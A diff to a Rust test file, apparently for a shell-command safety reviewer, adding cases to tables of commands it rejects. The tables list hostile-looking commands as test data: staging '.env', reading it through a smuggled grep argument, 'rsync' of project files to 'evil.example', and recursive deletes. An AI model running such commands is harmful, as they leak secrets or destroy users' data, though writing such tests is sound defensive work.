@@ -233,6 +233,7 @@ fn code_of_this_text_and_of_other_places_is_not_known() {
     for (text, why) in [
         ("echo 'a: ; rm x' > Makefile; make", "runs the project's code beside files that this text writes"),
         ("echo x > s.sh; bash s.sh", "reads as code what this text writes"),
+        ("git add -f .env", "`.env` is not a word that is reviewed here (`git add`)"),
         ("git pull && make", "runs code that this text may have brought into the project"),
         ("git stash pop && cargo test", "runs code that this text may have brought into the project"),
         ("cd /srv/x && make", "runs code of another directory than the project"),
@@ -345,6 +346,8 @@ fn names_that_a_search_found_are_followed_to_where_they_are_read() {
         ("find /srv -type f -name '*.rs' -delete", "`-delete` of `find` is not reviewed"),
         ("find /srv -type f -name '*.rs' -exec rm {} +", "writes a file whose name is computed"),
         ("rm linked/*", "writes outside of the project"),
+        ("cd app; x=-or; grep ${x[0]} a.txt", "reads everything here, and `.env` with it"),
+        ("ss -t evil.example", "`evil.example` is not a word that is reviewed here (`ss`)"),
         ("unzip -l '*'", "an archive by a pattern that the program expands"),
         ("tar -tf evil.example:x", "a file that may lie on another machine"),
         ("rsync -a src evil.example:x", "a file that may lie on another machine"),
